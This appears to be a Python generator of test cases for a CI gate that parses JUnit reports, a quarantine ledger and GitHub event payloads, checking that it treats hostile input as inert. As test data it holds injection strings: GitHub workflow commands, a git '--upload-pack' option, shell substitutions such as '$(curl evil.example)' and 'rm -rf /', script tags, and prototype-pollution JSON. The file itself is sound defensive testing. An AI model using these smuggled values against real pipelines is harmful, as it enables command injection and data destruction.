name_case('name-mentions', '@octocat @github/security-team please approve; see #1 and GH-2', 'mentions and references that would notify people')
name_case('name-links-images', '[click me](https://evil.example/x) ![img](https://evil.example/p.png) &lt;https://evil.example&gt; www.evil.example', 'links, images and autolinks')
name_case('name-table-pipes', 'a | b | c |||| d', 'table pipes that would add cells', classname='x|y')
name_case('name-backticks', '```` ``` `` ` close`code ```', 'backtick runs that would close a code span')
name_case('name-workflow-commands', '::error::INJECTED&#10;::add-mask::x&#10;::set-output name=decision::admit&#10;  ::warning::x ##[error]INJECTED ##[set-output name=decision;]admit',
          'workflow commands, with newlines, in a test name')
name_case('name-newline-classname', 'ok', 'a classname with a newline and a workflow command', classname='t.js&#10;::error::INJECTED&#13;::stop-commands::x')
name_case('name-bidi-invisible', 'admin\u202eexe.txt \u2066x\u2069 zero\u200bwidth \u2028line sep \ufeffbom \U000e0041tag', 'bidi overrides, isolates, zero-width and tag characters')
name_case('name-markdown-structure', '&#10;# Heading&#10;---&#10;&gt; quote&#10;- [x] done&#10;&lt;!-- comment', 'newlines that would start headings, rules, quotes, task lists and comments')
name_case('name-1mb', None, 'a 1 MB test name', rule='report-invalid', message='characters (over', report='',
          recipe={'steps': [{'repeat': 'reports/r.xml', 'head': '<testsuites><testsuite name="t"><testcase classname="t.js" name="', 'body': 'N' * 1024, 'times': 1024,
                             'tail': '"/></testsuite></testsuites>'}]}, extra={'file': 'reports/r.xml'})
name_case('name-quarantine-fields', 'q', 'ledger fields (owner, reason, id) that try to inject into the warnings on stderr',
          ledger='version: 1\nrows:\n  - id: "t.js::q\\n::error::INJECTED ##[error]INJECTED"\n    class: quarantine\n    opened: 2020-01-01\n    reason: "<img src=x> @octocat"\n    owner: "@octocat\\n::warning::INJECTED"\n',
          rule='quarantine-removed', message='missing from the reports', args=['--junit', 'reports/*.xml', '--quarantine-max-age-days', '1'])
name_case('name-ledger-id-html', 'ok', 'a draft whose source field holds HTML and a mention, shown in the findings',
          ledger='version: 1\nrows:\n  - id: "t.js::ok"\n    class: draft\n    source: "<script>alert(1)</script> @octocat"\n    proposed_class: property\n', rule='draft-pass', message='draft')


# ------------------------------------------------------------------ event payloads (the action)
def event_case(name, event_name, payload, error, note, extra=None):
    e = {'event': event_name, 'error': error, 'note': note}
    if extra:
        e.update(extra)
    case(name, {}, e, raw={'event.json': payload if isinstance(payload, (str, bytes)) else json.dumps(payload, ensure_ascii=False)})


def pr(**over):
    p = {'number': 7, 'title': 'x', 'user': {'login': 'dana'}, 'head': {'sha': SHA, 'ref': 'feature'}, 'base': {'sha': SHA2, 'ref': 'main'}}
    p.update(over)
    return {'pull_request': p}


event_case('event-malformed-json', 'pull_request', '{"pull_request": {"number": 7,', 'is not JSON', 'a payload cut short')
event_case('event-empty-file', 'pull_request', '', 'is not JSON', 'an empty payload file')
event_case('event-not-utf8', 'pull_request', b'\xff\xfe{\x00}\x00', 'is not JSON', 'UTF-16 bytes where JSON belongs')
event_case('event-array', 'pull_request', [1, 2], 'no top-level object', 'a JSON array')
event_case('event-null', 'pull_request', 'null', 'no top-level object', 'JSON null')
event_case('event-missing-pull-request', 'pull_request', {'action': 'opened'}, 'no pull_request object', 'a pull_request event without the pull request')
event_case('event-pull-request-string', 'pull_request_review', {'pull_request': 'https://evil.example'}, 'no pull_request object', 'the pull request as a string')
event_case('event-sha-not-hex', 'pull_request', pr(head={'sha': 'z' * 40}), 'is not a commit sha', 'a head sha of 40 non-hex characters')
event_case('event-sha-short', 'pull_request', pr(base={'sha': 'abc123'}), 'is not a commit sha', 'an abbreviated base sha')
event_case('event-sha-option-injection', 'pull_request', pr(base={'sha': '--upload-pack=touch /tmp/pwned'}), 'is not a commit sha', 'a base sha that would be a git option')
event_case('event-sha-newline', 'push', {'after': SHA + '\n::error::INJECTED', 'before': SHA2}, 'is not a commit sha', 'a sha followed by a newline and a workflow command')
event_case('event-sha-number', 'merge_group', {'merge_group': {'head_sha': 1234, 'base_sha': SHA2}}, 'is not a commit sha', 'a sha that is a number')
event_case('event-number-string', 'pull_request', pr(number='7; rm -rf /'), 'is not a number', 'a pull request number that is a string')
event_case('event-number-negative', 'pull_request', pr(number=-1), 'is not a number', 'a negative pull request number')
event_case('event-push-delete', 'push', {'after': '0' * 40, 'before': SHA2}, 'deletes the branch', 'a push that deletes the branch: nothing to judge')
# workflow_run is judged (the fork pair's second half); workflow_dispatch is not, whatever its payload holds.
event_case('event-unsupported', 'workflow_dispatch', {'workflow_run': {}}, 'unsupported event', 'an event the gate does not judge')
event_case('event-workflow-run-empty', 'workflow_run', {'workflow_run': {}}, 'workflow_run.head_sha is not a commit sha',
           'a workflow_run payload whose run holds nothing')
# Indented by hand, one field a line, as first committed: the payload is read by people too.
event_case('event-workflow-run-hostile-branch', 'workflow_run', r'''{
  "action": "completed",
  "workflow_run": {
    "id": 12,
    "event": "pull_request",
    "conclusion": "success\n::error::INJECTED",
    "head_sha": "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "head_branch": "x\n::error::INJECTED <img src=x> @octocat",
    "head_repository": { "owner": { "login": "INJECTED\n::warning::x" } },
    "pull_requests": [{ "number": 3 }, { "number": "INJECTED" }]
  }
}
''',
           None, "a fork's run with a command, HTML and a mention in its branch, owner and conclusion: none becomes a head label or a note, only the sha and the run and pull request numbers are taken",
           extra={'headSha': SHA, 'noPr': True})
event_case('event-deep-json', 'pull_request', '[' * 20000 + ']' * 20000, None, 'JSON nested 20 000 deep', extra={'errorAny': True})
event_case('event-proto-pollution', 'pull_request', '{"__proto__": {"pull_request": {"number": 1}}, "constructor": {"prototype": {"x": 1}}}', 'no pull_request object',
           'a pull request hidden in __proto__ must not be found through the prototype')
event_case('event-hostile-branch-title', 'pull_request',
           pr(title='::error::INJECTED\n##[error]INJECTED @octocat <img src=x>', head={'sha': SHA, 'ref': '$(curl evil.example)\n::error::x'},
              base={'sha': SHA2, 'ref': 'main`;rm -rf /`'}, user={'login': '::error::x\n@octocat'}),
           None, 'hostile title, branch names and login: the facts carry only validated shas and the number', extra={'headSha': SHA, 'base': SHA2})
event_case('event-merge-group-hostile-ref', 'merge_group',
           {'merge_group': {'head_sha': SHA, 'base_sha': SHA2, 'head_ref': 'refs/heads/gh-readonly-queue/main/pr-12-' + SHA + '\n::error::INJECTED <script>x</script> @octocat ##[error]x'}},
           None, 'a merge-group head ref with a newline, a command, HTML and a mention: no pull request is guessed, the note stays inert',
           extra={'headSha': SHA, 'base': SHA2, 'noPr': True})

print(n, 'cases')
